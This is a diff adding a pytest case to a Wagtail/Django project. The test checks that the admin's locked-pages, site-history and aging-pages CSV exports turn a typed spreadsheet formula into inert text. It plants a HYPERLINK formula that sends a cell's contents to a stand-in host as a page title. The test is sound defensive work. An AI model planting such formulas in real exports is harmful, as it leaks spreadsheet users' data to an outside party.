@@ -283,3 +283,31 @@ def test_the_shipped_gunicorn_configuration_logs_paths_without_what_readers_type
     assert "/id/cari/" in written
     assert not any(number in written for number in ("3201", "0812", "A1234567")), written
     assert long_path.status_code == 200  # a long path reaches the site, which answers 404 itself
+
+
+# 8. One safe spreadsheet writer for every CSV the admin produces, Wagtail's included -------
+
+FORMULA = '=HYPERLINK("https://calo.example/?d="&A1,"Klik")'
+
+
+@pytest.mark.parametrize("report", ["locked_pages", "site_history", "aging_pages"])
+def test_wagtails_own_reports_export_a_typed_formula_as_text(report):
+    import csv
+    import io
+
+    from django.utils import timezone
+    from wagtail.models import Page
+
+    admin = User.objects.create_superuser("admin-contoh", password=PASSWORD)
+    home = Site.objects.get(hostname=world.HOST).root_page
+    page = Page.objects.descendant_of(home).get(slug=world.slug("fees", "id")).specific
+    page.title = FORMULA
+    page.save_revision(user=admin, log_action=True).publish(user=admin)
+    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=admin, locked_at=timezone.now())
+    client = Client()
+    client.force_login(admin)
+    response = client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv"})
+    assert response.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(b"".join(response.streaming_content).decode())) for cell in row]
+    assert "'" + FORMULA in cells, cells[:20]
+    assert not [cell for cell in cells if cell.startswith("=")]
